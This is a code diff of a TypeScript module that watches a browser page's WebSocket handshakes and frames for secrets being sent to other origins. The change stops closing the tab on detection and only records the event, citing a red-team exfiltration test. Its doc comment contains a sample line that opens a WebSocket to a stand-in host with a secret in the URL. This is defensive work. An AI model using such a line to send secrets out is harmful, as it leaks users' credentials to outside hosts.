@@ -4,9 +4,11 @@
  * can open `new WebSocket("wss://elsewhere/?v=" + value)` or send the value in a frame. What
  * can be done is done at once: the handshake's URL (`Network.webSocketCreated`, sent as the
  * page creates the socket) and every frame the page sends (`Network.webSocketFrameSent`) are
- * read by the same finder as requests; when one carries a bound secret off its origins, the
- * tab is closed (ending its sockets) and the stop is recorded saying the value may have been
- * sent. A socket to one of the secret's origins (`ws:` for `http:`, `wss:` for `https:`) is
+ * read by the same finder as requests; when one carries a bound secret off its origins, it is
+ * recorded (the acting call's result, or the next one's `sinceLastCall`) saying the value may
+ * have been sent. The page is not ended for it: closing the tab, or taking it to
+ * `about:blank`, let requests its frames and workers had paused go out unjudged (measured
+ * with the red team's secret_exfil: up to five more reached the other origin). A socket to one of the secret's origins (`ws:` for `http:`, `wss:` for `https:`) is
  * its own business.
  *
  * CDP: `Network.webSocketCreated`, `Network.webSocketFrameSent`, `Network.webSocketClosed`
@@ -29,14 +31,11 @@ export interface WebSocketWatch {
   frameId: string;
   /** Records the stop (for the acting call's result, or the next one's `sinceLastCall`). */
   block: (b: BlockedNavigation) => void;
-  /** Closes the tab the socket's page is in (its sockets end with it). */
-  closeTab: () => Promise<void>;
 }
 
 /** Watches the WebSockets of one target's pages (see the module doc). */
 export function watchWebSockets(session: CdpSession, w: WebSocketWatch): void {
   const urls = new Map<string, string>();
-  let closing = false;
   const check = (url: string, sent: string, frame: boolean) => {
     const secret = w.find(url, sent);
     if (secret === undefined) return;
@@ -49,9 +48,6 @@ export function watchWebSockets(session: CdpSession, w: WebSocketWatch): void {
       webSocket: frame ? "frame" : "handshake",
       why: `it carries the secret ${secret}, bound to other origins`,
     });
-    if (closing) return;
-    closing = true;
-    w.closeTab().catch(() => {});
   };
   session.on("Network.webSocketCreated", (e) => {
     if (urls.size >= SOCKETS_KEPT) urls.delete(urls.keys().next().value!);
